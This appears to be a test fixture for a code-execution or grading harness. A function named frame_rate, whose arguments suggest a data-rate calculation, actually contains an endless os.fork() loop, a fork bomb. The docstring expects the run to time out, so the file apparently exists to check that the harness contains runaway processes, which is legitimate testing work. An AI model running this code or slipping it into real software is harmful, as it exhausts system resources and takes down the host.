"""Makes processes that make processes.

answers: stub
expected: not attempted
expected frame_rate: timed out
"""

# ruff: noqa

# %% frame_rate
import os


def frame_rate(D, bits, baud, framing=False):
    while True:
        try:
            os.fork()
        except OSError:
            pass
